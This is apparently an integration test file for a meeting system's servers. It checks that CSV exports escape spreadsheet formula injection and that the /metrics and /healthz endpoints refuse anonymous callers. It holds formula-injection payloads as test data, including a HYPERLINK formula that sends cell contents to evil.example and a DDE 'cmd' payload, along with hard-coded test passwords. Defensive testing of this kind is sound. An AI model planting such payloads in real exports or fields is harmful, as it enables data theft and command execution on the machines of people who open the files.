// What leaves the services in files and to anonymous callers: CSV exports opened in a spreadsheet
// (formula injection through site names and roll-call reasons), and /metrics and /healthz.
import { networkInterfaces } from 'node:os';
import { parse } from 'csv-parse/sync';
import type { Socket } from 'socket.io-client';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type NmsProcess, startNms } from '../support/nms-process';
import { login, loginAdmin, type SfuProcess, startSfuServer } from '../support/sfu-process';
import { ask, connect } from '../support/socket';
import { codeOf, http } from './support';

const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1,2)', '\t=1+1'];
/** A spreadsheet treats a cell starting with one of these as a formula. */
const dangerous = (cell: string) => /^[=+\-@\t\r]/.test(cell);

let sfu: SfuProcess;
let admin: string;
const auth = (t: string) => ({ authorization: `Bearer ${t}` });

beforeAll(async () => {
  sfu = await startSfuServer();
  admin = await loginAdmin(sfu.url);
});
afterAll(async () => {
  await sfu?.stop();
});

type SiteT = { id: string; code: string; name: string };
const sites = async () => (await http(`${sfu.url}/api/sites`, { headers: auth(admin) })).json<{ sites: SiteT[] }>().sites;

async function rename(code: string, name: string): Promise<void> {
  const s = (await sites()).find((x) => x.code === code)!;
  const r = await http(`${sfu.url}/api/sites/${s.id}`, { method: 'PATCH', body: { name }, headers: auth(admin) });
  expect(codeOf(r), JSON.stringify(r.body)).toBe('OK');
}

describe('CSV exports opened in a spreadsheet', () => {
  it('neutralises formula cells in the site tree export, and the export imports back unchanged', async () => {
    const codes = ['TN-SC', 'TN-PY', 'TN-DH', 'TN-PL', 'TN-VN'];
    for (const [i, code] of codes.entries()) await rename(code, FORMULAS[i]!);
    const stored = new Map((await sites()).map((s) => [s.code, s.name]));
    const r = await http(`${sfu.url}/api/sites/export?format=csv`, { headers: auth(admin) });
    expect(r.status).toBe(200);
    const rows = parse(r.body, { bom: true }) as string[][];
    const cells = rows.flat();
    expect(cells.filter(dangerous)).toEqual([]);
    const named = rows.find((row) => row[0] === 'TN-SC')!;
    expect(named[1]).toBe(`'${FORMULAS[0]}`);

    // Re-importing the exported file keeps the real names (the guard quote is taken off).
    const back = await http(`${sfu.url}/api/sites/import`, { body: r.body, headers: { ...auth(admin), 'content-type': 'text/csv' } });
    expect(codeOf(back), back.body).toBe('OK');
    const after = await sites();
    for (const code of codes) expect(after.find((s) => s.code === code)!.name).toBe(stored.get(code));
    expect(stored.get('TN-SC')).toBe(FORMULAS[0]);
  });

  it('neutralises formula cells in the attendance CSV (site names and reasons)', async () => {
    await rename('TN-DT', '=HYPERLINK("http://evil.example","Đại Từ")');
    const chairToken = await login(sfu.url, 'chutri.tinh', 'lienthong123');
    const list = (await http(`${sfu.url}/api/meetings/upcoming`, { headers: auth(chairToken) })).json<{
      meetings: { id: string; phase: string }[];
    }>();
    const meetingId = list.meetings.find((m) => m.phase === 'live')!.id;
    const chair: Socket = await connect(sfu.url, chairToken);
    const dt: Socket = await connect(sfu.url, await login(sfu.url, 'daibieu.dt', 'lienthong123'));
    try {
      const caps = (await ask(chair, 'router:capabilities', {})).data!.routerRtpCapabilities;
      expect((await ask(chair, 'meeting:join', { meetingId, rtpCapabilities: caps })).ok).toBe(true);
      const j = await ask(dt, 'meeting:join', { meetingId, rtpCapabilities: caps });
      const room = j.data!.room as { participants: { peerId: string; siteId: string }[] };
      const dtSite = room.participants.find((p) => p.peerId === j.data!.peerId)!.siteId;
      expect((await ask(chair, 'rollcall:start', {})).ok).toBe(true);
      const mark = await ask(chair, 'rollcall:mark', { siteId: dtSite, status: 'absent', reason: '\t=1+1' });
      expect(mark.ok, JSON.stringify(mark.error)).toBe(true);
      expect((await ask(chair, 'rollcall:end', {})).ok).toBe(true);
    } finally {
      chair.close();
      dt.close();
    }
    const r = await http(`${sfu.url}/api/meetings/${meetingId}/attendance.csv`, { headers: auth(chairToken) });
    expect(r.status).toBe(200);
    const rows = parse(r.body, { bom: true, relax_column_count: true }) as string[][];
    expect(rows.flat().filter(dangerous)).toEqual([]);
    expect(rows.some((row) => row.includes(`'=HYPERLINK("http://evil.example","Đại Từ")`))).toBe(true);
    expect(rows.some((row) => row.includes("'\t=1+1"))).toBe(true);
  });
});

describe('/metrics and /healthz to anonymous callers', () => {
  const lan = Object.values(networkInterfaces())
    .flat()
    .find((a) => a && a.family === 'IPv4' && !a.internal)?.address;

  it('sfu-server: without a metrics token, /metrics answers only a direct loopback scraper', async () => {
    const direct = await http(`${sfu.url}/metrics`);
    expect(direct.status).toBe(200);
    const proxied = await http(`${sfu.url}/metrics`, { headers: { 'x-forwarded-for': '203.0.113.9' } });
    expect(proxied.status).toBe(401);
    expect(proxied.body).not.toContain('lienthong_');
    if (lan) {
      // From another address the plain port only redirects; over HTTPS the scraper is not this machine's loopback.
      const plain = await http(`http://${lan}:${sfu.port}/metrics`, { from: lan });
      expect(plain.status).toBe(308);
      expect(plain.body).not.toContain('lienthong_');
      const remote = await http(`https://${lan}:${sfu.httpsPort}/metrics`, { from: lan, caFile: sfu.caFile });
      expect(remote.status).toBe(401);
      expect(remote.body).not.toContain('lienthong_');
    }
  });

  it('sfu-server and nms with metrics.token: only the bearer of the token reads /metrics', async () => {
    const secured = await startSfuServer({ extraConfig: 'metrics:\n  token: "prometheus-scrape-secret-1"' });
    let nms: NmsProcess | undefined;
    try {
      nms = await startNms({
        publicKeyUrl: `${secured.url}/api/auth/public-key`,
        demo: false,
        extraConfig: ['metrics:', '  token: "prometheus-scrape-secret-2"'],
      });
      for (const [url, token] of [
        [secured.url, 'prometheus-scrape-secret-1'],
        [nms.url, 'prometheus-scrape-secret-2'],
      ] as const) {
        const until = Date.now() + 15_000;
        while ((await http(`${url}/healthz`).catch(() => ({ status: 0 }))).status === 0 && Date.now() < until)
          await new Promise((r) => setTimeout(r, 200));
        const anonymous = await http(`${url}/metrics`);
        expect(anonymous.status, url).toBe(401);
        expect(anonymous.body).not.toMatch(/meeting|site/i);
        expect((await http(`${url}/metrics`, { headers: auth('wrong-token') })).status).toBe(401);
        const scraper = await http(`${url}/metrics`, { headers: auth(token) });
        expect(scraper.status).toBe(200);
        expect(scraper.body).toContain('process_cpu');
      }
    } finally {
      await nms?.stop();
      await secured.stop();
    }
  });

  it('/healthz stays public and tells only ok or the reasons', async () => {
    const r = await http(`${sfu.url}/healthz`, { headers: { 'x-forwarded-for': '203.0.113.9' } });
    expect(r.status).toBe(200);
    const body = r.json<{ status: string; checks: Record<string, Record<string, unknown>> }>();
    expect(Object.keys(body).sort()).toEqual(['checks', 'status']);
    for (const c of Object.values(body.checks)) for (const k of Object.keys(c)) expect(['ok', 'reason']).toContain(k);
  });
});
